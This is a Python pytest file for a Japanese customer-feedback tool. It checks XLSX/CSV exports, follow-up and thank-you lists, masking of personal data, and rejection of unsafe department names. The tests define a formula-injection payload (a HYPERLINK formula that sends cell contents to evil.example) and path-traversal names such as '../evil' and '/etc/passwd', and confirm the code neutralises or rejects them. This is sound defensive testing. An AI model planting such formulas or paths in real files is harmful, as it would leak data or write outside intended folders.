"""Shared files: XLSX next to every CSV, close-the-loop lists, safe names, atomic rewrites."""

from __future__ import annotations

import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

from koe.analysis.drivers import compute_drivers
from koe.config import ConfigError, KoeConfig, RoutingRule, load_config
from koe.core.safety import check_department_id
from koe.outputs import RunFolder, write_close_the_loop, write_routed, write_xlsx
from koe.routing import follow_up_list, route_comments, thank_you_list
from koe.taggers.lookup import tags_frame

from .test_routing import frames

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"詳細")'


def sheet_rows(path):
    ws = load_workbook(path).active
    return [[c.value for c in row] for row in ws.iter_rows()]


def routed_frames():
    comments, tags = frames()
    comments.loc[0, "text"] = HYPERLINK
    comments.loc[1, "text"] = "サポートが丁寧 連絡は taro@example.co.jp"
    return route_comments(comments, tags, KoeConfig().routing_rules(), segments=["plan"])


def test_xlsx_stores_formula_text_as_a_string_never_a_formula(tmp_path):
    write_routed(routed_frames(), tmp_path)
    ws = load_workbook(tmp_path / "support.xlsx").active
    header = [c.value for c in ws[1]]
    text = ws.cell(row=2, column=header.index("text") + 1)
    assert text.value == HYPERLINK  # shown as written ...
    assert text.data_type == "s" and text.quotePrefix  # ... and stored as text
    with zipfile.ZipFile(tmp_path / "support.xlsx") as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet
    # the CSV of the same rows neutralizes with an apostrophe
    back = pd.read_csv(tmp_path / "support.csv", encoding="utf-8-sig")
    assert back.loc[0, "text"] == "'" + HYPERLINK


def test_xlsx_has_the_csv_rows_masked_with_types(tmp_path):
    write_routed(routed_frames(), tmp_path)
    rows = sheet_rows(tmp_path / "support.xlsx")
    assert rows[0] == ["id", "date", "score", "nps_class", "customer_id", "plan", "text",
                       "themes", "routed_by", "evidence", "theme_names"]  # fmt: skip
    assert [r[0] for r in rows[1:]] == ["a", "b"]
    assert rows[2][6] == "サポートが丁寧 連絡は [email]"
    assert rows[1][2] == 2 and rows[1][1].date().isoformat() == "2026-10-01"
    assert rows[1][7] == "support_response_speed(negative)"
    assert rows[1][8] == "theme:support_response_speed; rule:support_follow_up"
    ws = load_workbook(tmp_path / "support.xlsx").active
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:K3"


def test_xlsx_drops_characters_excel_cannot_hold_and_cuts_long_cells(tmp_path):
    frame = pd.DataFrame({"text": ["ベル\x07音", "長" * 40_000], "n": [1, None]})
    write_xlsx(frame, tmp_path / "x.xlsx")
    rows = sheet_rows(tmp_path / "x.xlsx")
    assert rows[1] == ["ベル音", 1] and len(rows[2][0]) == 32_767 and rows[2][1] is None


UNSAFE_NAMES = [
    "../evil", "/etc/passwd", "/tmp/abs", "", "con", "NUL", "nul", "com1", "lpt9", "a/b", "a\\b",
    "..", ".", "sales.csv", "follow_up", "thank_you", "x" * 65, "営業", None,
]  # fmt: skip


@pytest.mark.parametrize("name", UNSAFE_NAMES)
def test_department_names_cannot_leave_the_routed_folder(tmp_path, name):
    routed = {name: routed_frames()["support"]}
    with pytest.raises(ValueError):
        write_routed(routed, tmp_path / "routed")
    assert not (tmp_path / "routed").exists() or not any((tmp_path / "routed").iterdir())
    assert sorted(p.name for p in tmp_path.iterdir()) in ([], ["routed"])


def test_routing_rules_in_config_reject_unsafe_department_names(tmp_path):
    for bad in ("con", "follow_up", "../evil"):
        path = tmp_path / "koe.yaml"
        path.write_text(f"routing:\n  - name: r\n    to: '{bad}'\n", encoding="utf-8")
        with pytest.raises(ConfigError, match=r"koe\.yaml"):
            load_config(path)
    assert check_department_id("customer_success") == "customer_success"
    assert RoutingRule(name="r", to="sales_jp").to == "sales_jp"


def test_rewriting_gives_the_same_files_without_duplicate_rows(tmp_path):
    routed = routed_frames()
    comments, tags = frames()
    write_routed(routed, tmp_path)
    write_close_the_loop(follow_up_list(comments, tags), thank_you_list(comments), tmp_path)
    first = {p.name: p.read_bytes() for p in tmp_path.glob("*.csv")}
    first_xlsx = {p.name: sheet_rows(p) for p in tmp_path.glob("*.xlsx")}
    write_routed(routed, tmp_path)
    write_close_the_loop(follow_up_list(comments, tags), thank_you_list(comments), tmp_path)
    assert {p.name: p.read_bytes() for p in tmp_path.glob("*.csv")} == first
    assert {p.name: sheet_rows(p) for p in tmp_path.glob("*.xlsx")} == first_xlsx
    assert len(pd.read_csv(tmp_path / "support.csv")) == len(routed["support"]) == 2
    assert sorted(first) == ["follow_up.csv", "marketing.csv", "product.csv", "support.csv",
                             "thank_you.csv"]  # fmt: skip
    assert not list(tmp_path.glob(".*"))  # no temporary file left behind


def test_run_folder_commit_replaces_a_run_of_the_same_id_whole(tmp_path):
    run = RunFolder(tmp_path, "20261101T000000Z")
    for content in ("first", "second"):
        folder = run.open()
        (folder / "report.html").write_text(content, encoding="utf-8")
        if content == "first":
            (folder / "routed" / "old.csv").write_text("x", encoding="utf-8")
        run.commit()
    final = tmp_path / "20261101T000000Z"
    assert (final / "report.html").read_text(encoding="utf-8") == "second"
    assert not (final / "routed" / "old.csv").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["20261101T000000Z"]


def close_the_loop_frames():
    comments = pd.DataFrame({
        "id": ["r1", "r2", "r3", "r4", "r5", "r6"],
        "date": pd.to_datetime(["2026-10-01", "2026-10-02", "2026-10-03", "2026-10-04",
                                "2026-10-05", "2026-10-06"]),
        "score": pd.array([3, 9, 1, 6, 8, 0], dtype="Int64"),
        "nps_class": ["detractor", "promoter", "detractor", "detractor", "passive", "detractor"],
        "customer_id": ["C1", "C2", "C3", pd.NA, "C1", "C4"],
        "plan": ["Free", "Pro", "Free", "Pro", "Free", "Pro"],
        "text": ["返信が遅いし料金も高い", "=1+1 最高", "使いにくい 03-1234-5678", "料金が高い",
                 "まあまあ", "特になし"],
        "non_answer": [False, False, False, False, False, True],
    })  # fmt: skip

    def tag(cid, theme, name, dept, pol, evidence, start):
        return {"id": cid, "sentence_idx": 0, "theme": theme, "theme_name": name, "parent": "",
                "department": dept, "polarity": pol, "is_request": False, "source": "lookup",
                "evidence": evidence, "start": start, "end": start + len(evidence)}  # fmt: skip

    tags = tags_frame([
        tag("r1", "speed", "返信速度", "support", "negative", "返信", 0),
        tag("r1", "pricing", "料金", "sales", "negative", "料金", 6),
        tag("r2", "speed", "返信速度", "support", "positive", "最高", 4),
        tag("r3", "usability", "使いやすさ", "product", "negative", "使い", 0),
        tag("r4", "pricing", "料金", "sales", "negative", "料金", 0),
    ])  # fmt: skip
    return comments, tags


def test_follow_up_lists_detractors_with_their_worst_negative_themes_first():
    comments, tags = close_the_loop_frames()
    drivers = compute_drivers(comments, tags, n_boot=0, min_mentions=1)
    follow = follow_up_list(comments, tags, drivers=drivers, segments=["plan"])
    assert list(follow.columns) == ["customer_id", "id", "date", "score", "nps_class", "plan",
                                    "main_negative_themes", "owner", "evidence", "text"]  # fmt: skip
    # detractors only; contactable first, then lowest score; r4 has no customer id: last
    assert follow["id"].tolist() == ["r6", "r3", "r1", "r4"]
    r1 = follow.set_index("id").loc["r1"]
    impact = drivers.set_index(["theme", "polarity"])["impact"]
    worst_first = sorted(["speed", "pricing"], key=lambda t: impact[(t, "negative")])
    names = {"speed": "返信速度", "pricing": "料金"}
    assert r1["main_negative_themes"] == "; ".join(f"{names[t]} ({t})" for t in worst_first)
    assert r1["owner"] == {"speed": "support", "pricing": "sales"}[worst_first[0]]
    # a detractor who gave no reason is still on the list, with no theme
    assert follow.set_index("id").loc["r6", "main_negative_themes"] == ""
    # without drivers, themes come in the order they were written
    plain = follow_up_list(comments, tags).set_index("id")
    assert plain.loc["r1", "main_negative_themes"] == "返信速度 (speed); 料金 (pricing)"
    assert plain.loc["r1", "evidence"] == "返信 / 料金"


def test_thank_you_has_every_respondent_once_with_the_latest_answer():
    comments, _ = close_the_loop_frames()
    thanks = thank_you_list(comments)
    assert list(thanks.columns) == ["customer_id", "id", "responses", "date", "score",
                                    "nps_class", "follow_up", "non_answer", "text"]  # fmt: skip
    assert thanks["customer_id"].isna().sum() == 1  # r4, its own respondent
    assert thanks["id"].tolist() == ["r5", "r2", "r3", "r4", "r6"]  # C1 answered twice
    c1 = thanks.iloc[0]
    assert c1["customer_id"] == "C1" and c1["responses"] == 2 and c1["score"] == 8
    assert bool(c1["follow_up"]) is True  # an earlier answer was a detractor's
    assert thanks["follow_up"].tolist() == [True, False, True, True, True]
    assert thanks.set_index("id").loc["r6", "non_answer"]


def test_close_the_loop_files_are_masked_neutralized_and_have_a_bom(tmp_path):
    comments, tags = close_the_loop_frames()
    counts = write_close_the_loop(follow_up_list(comments, tags), thank_you_list(comments),
                                  tmp_path)  # fmt: skip
    assert counts == {"follow_up": 4, "thank_you": 5}
    for name in ("follow_up", "thank_you"):
        assert (tmp_path / f"{name}.csv").read_bytes().startswith(b"\xef\xbb\xbf")
        assert (tmp_path / f"{name}.xlsx").is_file()
    follow = pd.read_csv(tmp_path / "follow_up.csv", encoding="utf-8-sig").set_index("id")
    assert follow.loc["r3", "text"] == "使いにくい [phone]"
    thanks = pd.read_csv(tmp_path / "thank_you.csv", encoding="utf-8-sig").set_index("id")
    assert thanks.loc["r2", "text"] == "'=1+1 最高"
    rows = sheet_rows(tmp_path / "thank_you.xlsx")
    assert ["r2", "=1+1 最高"] == [rows[2][1], rows[2][-1]]


def test_xlsx_writes_dates_times_and_timezones_as_excel_values(tmp_path):
    frame = pd.DataFrame({
        "d": [pd.Timestamp("2026-10-01"), pd.NaT],
        "t": [pd.Timestamp("2026-10-01 09:30"), pd.Timestamp("2026-10-01 09:30", tz="Asia/Tokyo")],
    })  # fmt: skip
    write_xlsx(frame, tmp_path / "x.xlsx")
    rows = sheet_rows(tmp_path / "x.xlsx")
    assert rows[1][0].isoformat() == "2026-10-01T00:00:00" and rows[2][0] is None
    assert rows[1][1].isoformat() == rows[2][1].isoformat() == "2026-10-01T09:30:00"


def test_xlsx_rows_beyond_a_sheet_continue_on_the_next_sheet(tmp_path, monkeypatch):
    import openpyxl

    from koe import outputs

    monkeypatch.setattr(outputs, "XLSX_MAX_ROWS", 4)  # 3 data rows per sheet
    frame = pd.DataFrame({"id": range(7), "text": [f"コメント{i}" for i in range(7)]})
    outputs.write_xlsx(frame, tmp_path / "t.xlsx", sheet="support")
    wb = openpyxl.load_workbook(tmp_path / "t.xlsx")
    assert wb.sheetnames == ["support", "support 2", "support 3"]
    rows = [r for ws in wb for r in ws.iter_rows(min_row=2, values_only=True)]
    assert rows == [(i, f"コメント{i}") for i in range(7)]
    assert all(ws["A1"].value == "id" and ws.freeze_panes == "A2" for ws in wb)
